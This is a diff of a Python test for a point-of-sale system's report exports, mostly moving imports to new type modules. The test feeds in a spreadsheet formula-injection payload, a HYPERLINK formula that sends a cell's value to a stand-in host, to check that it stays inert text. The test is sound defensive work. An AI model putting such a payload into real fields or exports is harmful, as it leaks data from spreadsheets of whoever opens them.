@@ -22,6 +22,8 @@ from showroom_pos.domain.periods import day_bounds, to_local
 from showroom_pos.services.admin import auth
 from showroom_pos.services.context import Ledger
 from showroom_pos.services.reports import reports
+from showroom_pos.services.stock.types import IntakeLineInput, ItemFields, MakerInput
+from showroom_pos.services.till.types import CartLine, PaymentInput
 from tests.conftest import Showroom, demo_database, opened_copy
 
 NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
@@ -158,19 +160,19 @@ def test_a_name_that_looks_like_a_formula_stays_text_in_csv_and_excel(
         sqlite_showroom: Showroom, tmp_path: Path) -> None:
     import zipfile
 
-    from showroom_pos.services.stock import makers, stock
+    from showroom_pos.services.stock import consignment, makers
     from showroom_pos.services.till import sales
 
     hostile = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
     makers.add_maker(sqlite_showroom.ledger, actor=sqlite_showroom.staff,
-                     data=makers.MakerInput(code="PKL066", name=hostile))
-    slip = stock.receive_consignment(
+                     data=MakerInput(code="PKL066", name=hostile))
+    slip = consignment.receive_consignment(
         sqlite_showroom.ledger, actor=sqlite_showroom.staff, maker_code="PKL066",
-        lines=[stock.IntakeLineInput(1, stock.ItemFields("Taplak cap", "taplak", "cap",
+        lines=[IntakeLineInput(1, ItemFields("Taplak cap", "taplak", "cap",
                                                          150_000, motif=hostile))])
     sales.complete_sale(sqlite_showroom.ledger, actor=sqlite_showroom.cashier,
-                        terminal_code="K1", lines=[sales.CartLine(slip.lines[0].item_code)],
-                        payments=[sales.PaymentInput("cash", 150_000)])
+                        terminal_code="K1", lines=[CartLine(slip.lines[0].item_code)],
+                        payments=[PaymentInput("cash", 150_000)])
     report = reports.sales_report(sqlite_showroom.ledger, actor=sqlite_showroom.supervisor,
                                   first_day=date(2026, 10, 1), last_day=date(2026, 10, 31),
                                   by="motif")
